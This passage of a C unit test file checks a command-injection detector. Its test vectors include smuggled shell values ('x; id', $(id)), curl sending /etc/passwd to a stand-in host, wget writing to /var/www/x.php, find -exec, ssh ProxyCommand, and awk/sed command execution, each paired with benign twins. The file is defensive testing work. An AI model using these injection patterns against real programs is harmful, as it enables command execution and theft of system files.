		assert_int_equal(argv_check("+!id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("+10", c), MOAT_ALLOW);
		assert_int_equal(argv_check("LANG=C", d), MOAT_ALLOW);
		assert_int_equal(argv_check("+/error", e), MOAT_ALLOW);
	}
	{ /* other programs' letters, ordinary options, operands after "--" */
		const char *a[] = {"grep", "-o", "x", "/f", NULL};
		const char *b[] = {"curl", "-XPOST", "http://x/", NULL};
		const char *c[] = {"curl", "-s", "--", "-o/tmp/x", NULL};
		const char *d[] = {"ping", "-c", "1", "-e", NULL};
		const char *e[] = {"sudo", "-u", "www", "ls", "-la", NULL};
		assert_int_equal(argv_check("-o", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-XPOST", b), MOAT_ALLOW);
		assert_int_equal(argv_check("-o/tmp/x", c), MOAT_ALLOW);
		assert_int_equal(argv_check("-e", d), MOAT_ALLOW);
		assert_int_equal(argv_check("-la", e), MOAT_ALLOW);
	}
}

/* argv: an element that is the value of the option before it (curl -H
 * "-o: x", wget --user-agent "-O x", the last letter of a cluster: curl
 * -sH "-o: x") is a value, not an option; after the value, an element is
 * an option again, and an input that adds a dangerous option of its own
 * still fires. The value of a dangerous option is judged as before. */
static void argv_option_values_are_values(void **state)
{
	(void)state;
	{ /* the false positives: an input in a value position */
		const char *a[] = {"curl", "-H", "-o: x", "http://h/", NULL};
		const char *b[] = {"wget", "--user-agent", "-O x", "http://h/", NULL};
		const char *c[] = {"curl", "-sH", "-o: x", "http://h/", NULL};
		const char *d[] = {"curl", "--header", "-K: y", "http://h/", NULL};
		const char *e[] = {"wget", "-U", "-e robots=off", "http://h/", NULL};
		const char *f[] = {"git", "commit", "-m", "-c is broken, fixed", NULL};
		const char *g[] = {"psql", "-d", "-o", "-c", "select 1", NULL};
		const char *h[] = {"ssh", "-l", "-F", "host", NULL};
		assert_int_equal(argv_check("-o: x", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-O x", b), MOAT_ALLOW);
		assert_int_equal(argv_check("-o: x", c), MOAT_ALLOW);
		assert_int_equal(argv_check("-K: y", d), MOAT_ALLOW);
		assert_int_equal(argv_check("-e robots=off", e), MOAT_ALLOW);
		assert_int_equal(argv_check("-c is broken, fixed", f), MOAT_ALLOW);
		assert_int_equal(argv_check("-o", g), MOAT_ALLOW);
		assert_int_equal(argv_check("-F", h), MOAT_ALLOW);
	}
	{ /* the true positives beside them */
		const char *a[] = {"curl", "http://h/", "-o", "/etc/x", NULL};
		const char *b[] = {"curl", "http://h/", "-o/tmp/x", NULL};
		const char *c[] = {"curl", "-H", "x: y", "-o/tmp/x", "http://h/", NULL};
		const char *d[] = {"wget", "--user-agent", "agent", "-O/tmp/x", "http://h/", NULL};
		const char *e[] = {"wget", "--user-agent=-O x", "-O", "/tmp/x", NULL};
		const char *f[] = {"curl", "-XPOST", "--output=/tmp/x", "http://h/", NULL};
		const char *g[] = {"git", "-C", "/srv/r", "-c", "core.pager=id", "log", NULL};
		assert_int_equal(argv_check("-o", a), MOAT_BLOCK);
		assert_int_equal(argv_check("-o/tmp/x", b), MOAT_BLOCK);
		assert_int_equal(argv_check("-o/tmp/x", c), MOAT_BLOCK);
		assert_int_equal(argv_check("-O/tmp/x", d), MOAT_BLOCK);
		assert_int_equal(argv_check("-O", e), MOAT_BLOCK);
		assert_int_equal(argv_check("--output=/tmp/x", f), MOAT_BLOCK);
		assert_int_equal(argv_check("-c", g), MOAT_BLOCK);
	}
	{ /* a value of a dangerous option: judged as before */
		const char *a[] = {"curl", "-o", "-K/tmp/cfg", "http://h/", NULL};
		assert_int_equal(argv_check("-K/tmp/cfg", a), MOAT_BLOCK);
	}
	{ /* "--" as a value does not end the options */
		const char *a[] = {"curl", "-H", "--", "-o/tmp/x", "http://h/", NULL};
		assert_int_equal(argv_check("-o/tmp/x", a), MOAT_BLOCK);
	}
}

/* argv: every letter of a short-option cluster is read up to the one that
 * takes a value (the rest of the element, or the next one): curl -so/tmp/x
 * writes /tmp/x, curl -sXo sends the method "o". */
static void argv_letters_of_a_cluster_are_read(void **state)
{
	(void)state;
	{
		const char *a[] = {"curl", "-so/tmp/x", "http://h/", NULL};
		const char *b[] = {"curl", "-sSo", "/tmp/x", "http://h/", NULL};
		const char *c[] = {"tar", "-xvIid", "-f", "/tmp/a.tar", NULL};
		const char *d[] = {"python3", "-Bc", "import os", NULL};
		const char *e[] = {"perl", "-lne", "print", "/tmp/f", NULL};
		const char *f[] = {"ssh", "-vF/tmp/cfg", "host", NULL};
		const char *g[] = {"sudo",      "-u", "www", "wget", "-qO/var/www/x.php",
		                   "http://h/", NULL};
		assert_int_equal(argv_check("-so/tmp/x", a), MOAT_BLOCK);
		assert_int_equal(argv_check("-sSo", b), MOAT_BLOCK);
		assert_int_equal(argv_check("-xvIid", c), MOAT_BLOCK);
		assert_int_equal(argv_check("-Bc", d), MOAT_BLOCK);
		assert_int_equal(argv_check("-lne", e), MOAT_BLOCK);
		assert_int_equal(argv_check("-vF/tmp/cfg", f), MOAT_BLOCK);
		assert_int_equal(argv_check("-qO/var/www/x.php", g), MOAT_BLOCK);
	}
	{ /* a letter after the one that takes a value is its value; other
	   * programs' clusters; an attached-only option (perl -M) */
		const char *a[] = {"curl", "-sXo", "http://h/", NULL};
		const char *b[] = {"curl", "-HX-o: 1", "http://h/", NULL};
		const char *c[] = {"grep", "-so", "x", "/f", NULL};
		const char *d[] = {"perl", "-Ilib", "-w", "/tmp/f", NULL};
		const char *e[] = {"ls", "-lo", "/tmp", NULL};
		const char *f[] = {"mysql", "-pcoe", "db", NULL};
		assert_int_equal(argv_check("-sXo", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-HX-o: 1", b), MOAT_ALLOW);
		assert_int_equal(argv_check("-so", c), MOAT_ALLOW);
		assert_int_equal(argv_check("-Ilib", d), MOAT_ALLOW);
		assert_int_equal(argv_check("-lo", e), MOAT_ALLOW);
		assert_int_equal(argv_check("-pcoe", f), MOAT_ALLOW);
	}
}

/* argv: curl sends a local file when a value of -d/--data/--data-binary/
 * --json/-H starts with '@', when -F's value has '@' or '<' right after
 * its name's '=', or --data-urlencode's an '@' before any '='; an input
 * that brings that '@' or '<' makes curl read a file the user chose. */
static void argv_curl_values_that_read_a_file(void **state)
{
	(void)state;
	{
		const char *a[] = {"curl", "-d", "@/etc/passwd", "http://h/", NULL};
		const char *b[] = {"curl", "--data-binary", "@/etc/passwd", "http://h/", NULL};
		const char *c[] = {"curl", "-F", "file=@/etc/passwd", "http://h/", NULL};
		const char *d[] = {"curl", "-F", "comment=@/etc/passwd", "http://h/", NULL};
		const char *e[] = {"curl", "-sF", "comment=</etc/passwd", "http://h/", NULL};
		const char *f[] = {"curl", "--data-urlencode", "q@/etc/passwd", "http://h/", NULL};
		const char *g[] = {"curl", "-H", "@/etc/passwd", "http://h/", NULL};
		const char *h[] = {"curl", "-d@/etc/passwd", "http://h/", NULL};
		const char *i[] = {"sudo", "curl", "--json", "@/etc/passwd", "http://h/", NULL};
		assert_int_equal(argv_check("@/etc/passwd", a), MOAT_BLOCK);
		assert_int_equal(argv_check("@/etc/passwd", b), MOAT_BLOCK);
		assert_int_equal(argv_check("file=@/etc/passwd", c), MOAT_BLOCK);
		assert_int_equal(argv_check("@/etc/passwd", d), MOAT_BLOCK);
		assert_int_equal(argv_check("</etc/passwd", e), MOAT_BLOCK);
		assert_int_equal(argv_check("q@/etc/passwd", f), MOAT_BLOCK);
		assert_int_equal(argv_check("@/etc/passwd", g), MOAT_BLOCK);
		assert_int_equal(argv_check("@/etc/passwd", h), MOAT_BLOCK);
		assert_int_equal(argv_check("@/etc/passwd", i), MOAT_BLOCK);
	}
	{ /* an '@' curl sends as it is; the application's own file */
		const char *a[] = {"curl", "-d", "msg=@john hi", "http://h/", NULL};
		const char *b[] = {"curl", "--data-raw", "@home", "http://h/", NULL};
		const char *c[] = {"curl", "-F", "comment=hello @john", "http://h/", NULL};
		const char *d[] = {"curl", "--form-string", "c=@/etc/passwd", "http://h/", NULL};
		const char *e[] = {"curl", "-H", "X-Tag: @home", "http://h/", NULL};
		const char *f[] = {"curl", "-d", "@/tmp/up-abc-1.json", "http://h/", NULL};
		const char *g[] = {"curl", "--data-urlencode", "q=@home", "http://h/", NULL};
		const char *h[] = {"wget", "-d", "@home", "http://h/", NULL};
		assert_int_equal(argv_check("@john hi", a), MOAT_ALLOW);
		assert_int_equal(argv_check("@home", b), MOAT_ALLOW);
		assert_int_equal(argv_check("hello @john", c), MOAT_ALLOW);
		assert_int_equal(argv_check("c=@/etc/passwd", d), MOAT_ALLOW);
		assert_int_equal(argv_check("X-Tag: @home", e), MOAT_ALLOW);
		assert_int_equal(argv_check("abc-1", f), MOAT_ALLOW);
		assert_int_equal(argv_check("@home", g), MOAT_ALLOW);
		assert_int_equal(argv_check("@home", h), MOAT_ALLOW);
	}
}

/* argv: ssh joins the words after the host with spaces and the remote
 * user's shell runs them: they are judged as a command line (options
 * before and after the host and their values are not; after "--" the
 * host and then the command). */
static void argv_ssh_remote_command_is_a_command_line(void **state)
{
	(void)state;
	{
		const char *a[] = {"ssh", "host", "ls", "x;id", NULL};
		const char *b[] = {"ssh", "-p", "22", "deploy@host", "cat /var/log/x;id", NULL};
		const char *c[] = {"ssh", "host", "--", "ls", "$(id)", NULL};
		const char *d[] = {"ssh", "-i", "/k", "host", "-v", "uptime; id", NULL};
		const char *e[] = {"sudo", "-u",   "ops",  "/usr/bin/ssh",
		                   "host", "grep", "x|id", NULL};
		const char *f[] = {"ssh", "--", "host", "ls", "`id`", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("$(id)", c), MOAT_BLOCK);
		assert_int_equal(argv_check("uptime; id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x|id", e), MOAT_BLOCK);
		assert_int_equal(argv_check("`id`", f), MOAT_BLOCK);
	}
	{ /* words of data, the host, an option's value; scp is not ssh */
		const char *a[] = {"ssh", "host", "grep", "-e", "hello world", "/var/log/x", NULL};
		const char *b[] = {"ssh", "web-01.example.com", "uptime", NULL};
		const char *c[] = {"ssh", "-l", "x;id", "host", "uptime", NULL};
		const char *d[] = {"ssh", "host", "ls", "my file - v2.txt", NULL};
		const char *e[] = {"scp", "x;id", "host:/tmp", NULL};
		const char *f[] = {"ssh", "-o", "x;id", "host", NULL};
		assert_int_equal(argv_check("hello world", a), MOAT_ALLOW);
		assert_int_equal(argv_check("web-01.example.com", b), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", c), MOAT_ALLOW);
		assert_int_equal(argv_check("my file - v2.txt", d), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", f), MOAT_ALLOW);
	}
}

/* argv: a sed script (the values of -e/--expression, or the first operand)
 * is parsed as GNU sed parses it; an input that brings a command that runs
 * a command or reads or writes a file (e, r, R, w, W) or such a flag of s
 * (s///e, s///w) fires; text in a regular expression or a replacement,
 * and a script that does not parse (nothing runs), do not. */
static void argv_sed_commands_from_an_input(void **state)
{
	(void)state;
	{
		const char *a[] = {"sed", "e id", "/tmp/f", NULL};
		const char *b[] = {"sed", "-n", "1e id", "/tmp/f", NULL};
		const char *c[] = {"sed", "-e", "s/x/a/;e id;#/g", "/tmp/f", NULL};
		const char *d[] = {"sed", "s/x/id/e", "/tmp/f", NULL};
		const char *e[] = {"sed", "--expression=s/a/b/w /tmp/x", "/tmp/f", NULL};
		const char *f[] = {"sed", "-i", "-e", "/x/I r /etc/passwd", "/tmp/f", NULL};
		const char *g[] = {"sed", "-E", "0,/a/{e id\n}", "/tmp/f", NULL};
		assert_int_equal(argv_check("e id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("1e id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("a/;e id;#", c), MOAT_BLOCK);
		assert_int_equal(argv_check("id/e", d), MOAT_BLOCK);
		assert_int_equal(argv_check("w /tmp/x", e), MOAT_BLOCK);
		assert_int_equal(argv_check("/x/I r /etc/passwd", f), MOAT_BLOCK);
		assert_int_equal(argv_check("e id", g), MOAT_BLOCK);
		/* GNU sed reads options after an operand too */
		const char *h[] = {"sed", "/tmp/f", "-e", "1e id", NULL};
		assert_int_equal(argv_check("1e id", h), MOAT_BLOCK);
	}
	{ /* words in the pattern or the replacement; a script that fails; the
	   * application's own e; --sandbox; a file name operand */
		const char *a[] = {"sed", "-e", "s/hello world/we were here/g", "/tmp/f", NULL};
		const char *b[] = {"sed", "s/x/a/ge/g", "/tmp/f", NULL};
		const char *c[] = {"sed", "-n", "/error e id/p", "/tmp/f", NULL};
		const char *d[] = {"sed", "1e date", "my file - e.txt", NULL};
		const char *e[] = {"sed", "--sandbox", "e id", "/tmp/f", NULL};
		const char *f[] = {"sed", "s/a/b/", "e id", NULL};
		const char *g[] = {"sed", "-e", "s/a/b/", "-e", "s/x/y/", "e id", NULL};
		assert_int_equal(argv_check("hello world", a), MOAT_ALLOW);
		assert_int_equal(argv_check("we were here", a), MOAT_ALLOW);
		assert_int_equal(argv_check("a/ge", b), MOAT_ALLOW);
		assert_int_equal(argv_check("error e id", c), MOAT_ALLOW);
		assert_int_equal(argv_check("my file - e.txt", d), MOAT_ALLOW);
		assert_int_equal(argv_check("e id", e), MOAT_ALLOW);
		assert_int_equal(argv_check("e id", f), MOAT_ALLOW);
		assert_int_equal(argv_check("e id", g), MOAT_ALLOW);
	}
}

/* argv: an awk program (the first operand, or -e/--source's values) is
 * read with awk's strings, regular expressions and comments; an input that
 * brings system(...), a pipe to or from a command (|, |&), a print
 * redirected to a file (> >>) or @load/@include outside them fires, in a
 * program whose strings, expressions and braces close; text inside a
 * string or a regular expression, -v values and file operands do not. */
static void argv_awk_programs_from_an_input(void **state)
{
	(void)state;
	{
		const char *a[] = {"awk", "BEGIN{system(\"id\")}", NULL};
		const char *b[] = {"awk", "/x/{system(\"id\")} /x/ {print $1}", "/tmp/f", NULL};
		const char *c[] = {"gawk", "-F", ":", "{print $1 | \"sh\"}", "/etc/passwd", NULL};
		const char *d[] = {"awk", "{print > \"/var/www/x.php\"}", "/tmp/f", NULL};
		const char *e[] = {"mawk", "BEGIN{\"id\" | getline x; print x}", NULL};
		const char *f[] = {"gawk", "-e", "@load \"/tmp/x\"", NULL};
		const char *g[] = {"awk", "$1 == \"x\" || system(\"id\") {print}", "/tmp/f", NULL};
		assert_int_equal(argv_check("BEGIN{system(\"id\")}", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x/{system(\"id\")} /x", b), MOAT_BLOCK);
		assert_int_equal(argv_check("{print $1 | \"sh\"}", c), MOAT_BLOCK);
		assert_int_equal(argv_check("> \"/var/www/x.php\"", d), MOAT_BLOCK);
		assert_int_equal(argv_check("\"id\" | getline", e), MOAT_BLOCK);
		assert_int_equal(argv_check("@load \"/tmp/x\"", f), MOAT_BLOCK);
		assert_int_equal(argv_check("x\" || system(\"id\")", g), MOAT_BLOCK);
		const char *h[] = {"gawk", "--source", "BEGIN{system(\"id\")}", NULL};
		assert_int_equal(argv_check("BEGIN{system(\"id\")}", h), MOAT_BLOCK);
	}
	{ /* no program from the operands: after the program text (awk reads
	   * no option there: -e is a file), or with one from a file (-f,
	   * gawk's -E/--exec, whose program takes the rest as its ARGV) */
		const char *a[] = {"gawk", "{print}", "-e", "BEGIN{system(\"id\")}", NULL};
		const char *b[] = {"awk", "-f", "/tmp/x.awk", "BEGIN{system(\"id\")}", NULL};
		const char *c[] = {"gawk", "-E", "/tmp/x.awk", "BEGIN{system(\"id\")}", NULL};
		const char *d[] = {"gawk", "--exec", "/tmp/x.awk", "BEGIN{system(\"id\")}", NULL};
		assert_int_equal(argv_check("BEGIN{system(\"id\")}", a), MOAT_ALLOW);
		assert_int_equal(argv_check("BEGIN{system(\"id\")}", b), MOAT_ALLOW);
		assert_int_equal(argv_check("BEGIN{system(\"id\")}", c), MOAT_ALLOW);
		assert_int_equal(argv_check("BEGIN{system(\"id\")}", d), MOAT_ALLOW);
	}
	{ /* text in a string or a regular expression, a comparison, values,
	   * file operands, a program that does not close */
		const char *a[] = {"awk", "/a|b system(x) > y/ {print}", "/tmp/f", NULL};
		const char *b[] = {"awk", "{print \"rock | roll > system(1)\"}", "/tmp/f", NULL};
		const char *c[] = {"awk", "$3 > 100 {print $1}", "/tmp/f", NULL};
		const char *d[] = {"awk", "-v", "q=a | b", "$0 ~ q", "/tmp/f", NULL};
		const char *e[] = {"awk", "{print $1}", "my file | - 2.txt", NULL};
		const char *f[] = {"awk", "/x\" | \"sh/ {print}", "/tmp/f", NULL};
		const char *g[] = {"awk", "{ n = $2 / 2; print n > 1 }", "/tmp/f", NULL};
		assert_int_equal(argv_check("a|b system(x) > y", a), MOAT_ALLOW);
		assert_int_equal(argv_check("rock | roll > system(1)", b), MOAT_ALLOW);
		assert_int_equal(argv_check("100", c), MOAT_ALLOW);
		assert_int_equal(argv_check("a | b", d), MOAT_ALLOW);
		assert_int_equal(argv_check("my file | - 2.txt", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x\" | \"sh", f), MOAT_ALLOW);
		assert_int_equal(argv_check("$2 / 2", g), MOAT_ALLOW);
	}
}

/* argv: getopt_long (wget, gawk ...) and curl 7 take an unambiguous
 * prefix of a long option for the option: --output-d is
 * --output-document, --user-a takes the next element as its value; an
 * ambiguous one (curl --out: --output or --output-dir) runs nothing. */
static void argv_abbreviated_long_options(void **state)
{
	(void)state;
	{
		const char *a[] = {"wget", "--output-d=/var/www/x.php", "http://h/", NULL};
		const char *b[] = {"wget", "--input", "/tmp/list", NULL};
		const char *c[] = {"curl", "--upload", "/etc/passwd", "http://h/", NULL};
		const char *d[] = {"curl", "--trace-a", "/var/www/x.php", "http://h/", NULL};
		assert_int_equal(argv_check("--output-d=/var/www/x.php", a), MOAT_BLOCK);
		assert_int_equal(argv_check("--input", b), MOAT_BLOCK);
		assert_int_equal(argv_check("--upload", c), MOAT_BLOCK);
		assert_int_equal(argv_check("--trace-a", d), MOAT_BLOCK);
		/* --head is an option of its own, not --header's prefix */
		const char *e[] = {"curl", "--head", "-o/tmp/x", "http://h/", NULL};
		assert_int_equal(argv_check("-o/tmp/x", e), MOAT_BLOCK);
	}
	{
		const char *a[] = {"wget", "--user-a", "-O x", "http://h/", NULL};
		const char *b[] = {"curl", "--out", "/tmp/x", "http://h/", NULL};
		const char *c[] = {"wget", "--ver", NULL};
		const char *d[] = {"curl", "--head", "--co", "http://h/", NULL};
		assert_int_equal(argv_check("-O x", a), MOAT_ALLOW);
		assert_int_equal(argv_check("--out", b), MOAT_ALLOW);
		assert_int_equal(argv_check("--ver", c), MOAT_ALLOW);
		assert_int_equal(argv_check("--co", d), MOAT_ALLOW);
	}
}

/* argv: each wrapper's own options that take a value (sudo -u, timeout
 * -s, nice -n, env -u, xargs -I ...); sudo's -n, -k, -s, -E, -H and
 * timeout's --foreground are flags, so the program is the next word. */
static void argv_wrapper_options_are_read_per_wrapper(void **state)
{
	(void)state;
	{
		const char *a[] = {"sudo", "-n", "curl", "-s", "-o/tmp/x", "http://h/", NULL};
		const char *b[] = {"sudo", "-k", "wget", "-O/tmp/x", "http://h/", NULL};
		const char *c[] = {"sudo", "-E", "-u", "www", "curl", "-o/tmp/x", NULL};
		const char *d[] = {"timeout", "-k", "5", "10", "curl", "-o/tmp/x", NULL};
		const char *e[] = {"xargs", "-I", "{}", "curl", "-o/tmp/x", "{}", NULL};
		const char *f[] = {"sudo", "-n", "sh", "-c", "ls x;id", NULL};
		assert_int_equal(argv_check("-o/tmp/x", a), MOAT_BLOCK);
		assert_int_equal(argv_check("-O/tmp/x", b), MOAT_BLOCK);
		assert_int_equal(argv_check("-o/tmp/x", c), MOAT_BLOCK);
		assert_int_equal(argv_check("-o/tmp/x", d), MOAT_BLOCK);
		assert_int_equal(argv_check("-o/tmp/x", e), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", f), MOAT_BLOCK);
	}
	{
		const char *a[] = {"sudo", "-n", "curl", "-H", "-o: x", "http://h/", NULL};
		const char *b[] = {"nice", "-n", "5", "wget", "-U", "-O x", "http://h/", NULL};
		assert_int_equal(argv_check("-o: x", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-O x", b), MOAT_ALLOW);
	}
}

/* Session 21 (shell17): each line of blocks[] ran touch in place of id in
 * the shells named and was allowed; each of passes[] is its benign twin. */
static void lines_block_and_pass(const char *const blocks[][3], size_t nb,
                                 const char *const passes[][3], size_t np)
{
	for (size_t i = 0; i < nb; i++)
		if (shell3(blocks[i][1], blocks[i][0], blocks[i][1], blocks[i][2]) != MOAT_BLOCK)
			fail_msg("allowed: %s%s%s", blocks[i][0], blocks[i][1], blocks[i][2]);
	for (size_t i = 0; i < np; i++)
		if (shell3(passes[i][1], passes[i][0], passes[i][1], passes[i][2]) != MOAT_ALLOW)
			fail_msg("blocked: %s%s%s", passes[i][0], passes[i][1], passes[i][2]);
}

/* What echo or printf prints into a pipe to a shell that reads its script
 * from standard input (sh, bash -s, bash -, busybox sh, sudo sh, xargs sh
 * -c, . /dev/stdin), and a here-document given to such a shell or to a
 * command piped into one, is a command line (bash 5.2, dash, busybox sh
 * ran it; xargs sh -c runs a line of no blanks). A pipe into grep, into a
 * shell given a script (sh ./f.sh, sh -c 'cat') or a shell run after the
 * echo (echo ...; sh reads the application's input) is data. */
static void a_line_piped_into_a_shell_is_read_again(void **state)
{
	static const char *const blocks[][3] = {
	    {"echo 'ls ", "x; id", "' | sh"},
	    {"printf '%s\\n' 'cd /srv && ls ", "x; id", "' | bash"},
	    {"echo 'cat ", "x; id", "' | busybox sh"},
	    {"echo \"ls ", "x; id", "\" | sudo -u www bash -s"},
	    {"echo -e 'cd /srv\\n", "x; id", "' | bash - 2>&1"},
	    {"echo 'ls;", "x;id", "' | xargs sh -c"},
	    {"echo 'a", "x;id", "' | xargs -I{} sh -c 'echo {}'"},
	    {"printf 'ls %s\\n' '", "x; id", "' | env LC_ALL=C dash"},
	    {"echo 'ls ", "x; id", "' | . /dev/stdin"},
	    {"cat <<EOF | sh\nls ", "x; id", "\nEOF\n"},
	    {"cat <<'EOF' | bash -s\necho ", "x; id", "\nEOF\n"},
	    {"sh <<'EOF'\necho ", "x; id", "\nEOF\n"},
	    {"bash -s <<-EOF\n\techo ", "x; id", "\n\tEOF\n"},
	    /* the whole script from the input: judged as sh -c '...' is
	     * (session 22, the lead's decision) */
	    {"echo '", "x; id", "' | sh"},
	    {"printf '%s\\n' '", "x; id", "' | bash -s"},
	    {"cat <<EOF | sh\n", "x; id", "\nEOF\n"},
	    {"sh <<'EOF'\n", "x; id", "\nEOF\n"},
	    {"bash -s <<-EOF\n", "ls && id", "\nEOF\n"},
	    {"echo \"", "ls | id", "\" | sudo -u www bash -s"},
	};
	static const char *const passes[][3] = {
	    {"echo '", "x; id", "' | grep x"},
	    /* the whole script, one command: as sh -c 'ls' passes */
	    {"echo '", "ls", "' | sh"},
	    {"printf '%s\\n' '", "cat /etc/motd", "' | bash -s"},
	    {"cat <<EOF | sh\n", "uptime", "\nEOF\n"},
	    {"sh <<'EOF'\n", "echo 'hi there'", "\nEOF\n"},
	    {"echo '", "x; id", "' | sh ./filter.sh"},
	    {"echo '", "x; id", "' | sh -c 'cat'"},
	    {"echo '", "x; id", "'; sh"},
	    {"grep '", "x; id", "' f | sh"},
	    {"echo '", "red shoes", "' | sh"},
	    {"echo 'ls ", "O'Brien", "' | sh"},
	    {"cat <<EOF | grep x\n", "x; id", "\nEOF\n"},
	    {"cat <<'EOF' > f.sh\necho ", "x; id", "\nEOF\n"},
	    {"sh ./run.sh <<'EOF'\n", "x; id", "\nEOF\n"},
	};

	(void)state;
	lines_block_and_pass(blocks, sizeof blocks / sizeof blocks[0], passes,
	                     sizeof passes / sizeof passes[0]);
}

/* A value attached to its option, in quotes: su's, runuser's and
 * script's -c (su -c'...', su -lc'...', --command='...') and bash's
 * mapfile/readarray/compgen -C'...' run it as a command line (getopt
 * takes the rest of the word). A shell reads -c'...' as a cluster of
 * options and refuses it (sh -c'x; id': "Illegal option -;"), flock
 * takes -c only as a word of its own, sudo -s escapes every
 * metacharacter of its arguments (sudo 1.9.13: 'x; id' is one word), and
 * complete -C runs only at completion, in an interactive shell: nothing
 * runs in sh -c. */
static void attached_values_and_callbacks_that_run(void **state)
{
	static const char *const blocks[][3] = {
	    {"mapfile -C'", "x; id", "' -c1 a < f"},
	    {"mapfile -tC'echo ", "x; id", "' -c1 a < f"},
	    {"readarray -C\"", "x; id", "\" -c 1 a < f"},
	    {"compgen -C'", "x; id", "' x"},
	    {"su -c'", "x; id", "'"},
	    {"su -lc'echo ", "x; id", "' www"},
	    {"su - www --command='", "x; id", "'"},
	    {"runuser root -c'", "x; id", "'"},
	    {"script -qc'", "x; id", "' /dev/null"},
	};
	static const char *const passes[][3] = {
	    {"sh -c'", "x; id", "'"},
	    {"bash -xc'", "x; id", "'"},
	    {"flock /tmp/l -c'", "x; id", "'"},
	    {"sudo -s '", "x; id", "'"},
	    {"complete -C '", "x; id", "' foo"},
	    {"complete -C'", "x; id", "' foo"},
	    {"mapfile -C'echo ", "red shoes", "' -c1 a < f"},
	    {"su -c'echo ", "Tom & Jerry", "'"},
	    {"grep -e'", "x; id", "' f"},
	    {"ls --color='", "x; id", "'"},
	};

	(void)state;
	lines_block_and_pass(blocks, sizeof blocks / sizeof blocks[0], passes,
	                     sizeof passes / sizeof passes[0]);
}

/* ssh joins the words after the host and hands them to the remote
 * user's shell (sh -c): a quoted word there is a command line, also
 * after options, --, or a command's first words. eval joins its
 * arguments: a quoted one four or more words in is read as the first
 * three are. A variable assigned a quoted value in the line and then
 * given to eval, sh -c or a pipe into a shell runs it (bash 5.2, dash,
 * busybox sh). */
static void ssh_eval_and_variables_hand_lines_to_a_shell(void **state)
{
	static const char *const blocks[][3] = {
	    {"ssh host 'ls ", "x; id", "'"},
	    {"ssh -p 22 host -- 'cat ", "x; id", "'"},
	    {"ssh -i /keys/web -o BatchMode=yes deploy@web01 ls -l '", "x; id", "'"},
	    {"sudo ssh web01 \"cat ", "x; id", "\""},
	    {"eval echo a b '", "x; id", "'"},
	    {"eval echo a b c d '", "x; id", "'"},
	    {"x='", "x; id", "'; eval \"$x\""},
	    {"x='", "x; id", "'; eval $x"},
	    {"cmd=\"", "x; id", "\"; sh -c \"$cmd\""},
	    {"c='", "x; id", "'; bash -c \"${c}\""},
	    {"c='", "x; id", "'; echo \"$c\" | bash"},
	    /* the whole remote command from the input: judged as sh -c
	     * '...' is (session 22, the lead's decision) */
	    {"ssh host '", "x; id", "'"},
	    {"ssh user@host '", "cd /srv && git pull", "'"},
	    {"ssh -p 22 host -- '", "ls $(id)", "'"},
	};
	static const char *const passes[][3] = {
	    {"ssh '", "x; id", "'"},
	    /* the whole remote command, one command: as sh -c 'uptime' */
	    {"ssh user@host '", "uptime", "'"},
	    {"ssh host '", "df -h /srv", "'"},
	    {"ssh -p '", "x; id", "' host"},
	    {"echo ssh host '", "x; id", "'"},
	    {"ssh host 'echo ", "red shoes", "'"},
	    {"echo eval a b c '", "x; id", "'"},
	    {"x='", "x; id", "'; echo \"$x\""},
	    {"x='", "x; id", "'; eval \"$y\""},
	    {"xy='", "x; id", "'; eval \"$x\""},
	    {"x='", "x; id", "'; eval \"$xy\""},
	    {"x='", "x; id", "'; grep -- \"$x\" f | sh ./f.sh"},
	};

	(void)state;
	lines_block_and_pass(blocks, sizeof blocks / sizeof blocks[0], passes,
	                     sizeof passes / sizeof passes[0]);
}

/* PS4's value is expanded as a prompt, substitutions and all, before
 * each command bash traces: set -x, set -o xtrace, bash -x (a non-root
 * bash takes PS4 from its environment) run a $( ) or backticks kept in
 * single quotes (bash 5.2; dash and busybox sh do not expand it). */
static void ps4_under_xtrace_runs_its_substitutions(void **state)
{
	static const char *const blocks[][3] = {
	    {"PS4='", "$(id)", "'; set -x; ls"},
	    {"PS4='+ ", "`id` ", "'; set -o xtrace; ls"},
	    {"export PS4='", "x$(id)", "'; bash -x ./run.sh"},
	    {"PS4='", "$(id)", "' bash -exc 'ls'"},
	};
	static const char *const passes[][3] = {
	    {"PS4='", "$(id)", "'; ls"},
	    {"PS4='", "+ x; y ", "'; set -x; ls"},
	    {"MY_PS='", "$(id)", "'; set -x; ls"},
	    {"echo 'PS4=", "$(id)", "'; set -x"},
	};

	(void)state;
	lines_block_and_pass(blocks, sizeof blocks / sizeof blocks[0], passes,
	                     sizeof passes / sizeof passes[0]);
}

/* An input that adds, unquoted, an argument that is an option of the
 * command that runs a program: find's -exec, -execdir, -ok, -okdir,
 * tar's --to-command and --use-compress-program, ssh's -o ProxyCommand,
 * rsync's -e (each ran touch in bash, dash and busybox sh; rsync by its
 * manual). Other options it adds (find -type, grep -e, ssh -p) are words
 * of the command's own, as are such words of another command. */
static void an_unquoted_input_that_adds_an_option_that_runs_a_program(void **state)
{
	static const char *const blocks[][3] = {
	    {"find . -name ", "x -exec id \\;", ""},
	    {"find /srv -name ", "x -execdir id {} +", " -print"},
	    {"find . -iname ", "x -ok id {} +", ""},
	    {"tar -xf a.tar ", "x --to-command=id", ""},
	    {"tar -cf a.tar ", "x --use-compress-program=id", ""},
	    {"ssh ", "x -oProxyCommand=id", " uptime"},
	    {"ssh ", "x -o ProxyCommand=id", " uptime"},
	    {"rsync -a ", "x -e id", " /dst"},
	    {"sudo find . -name ", "x -exec id \\;", ""},
	};
	static const char *const passes[][3] = {
	    {"find . -name ", "x -type f", ""},    {"find . -name ", "report -print", ""},
	    {"grep -r ", "x -e y", " ."},          {"tar -xf a.tar ", "x --verbose", ""},
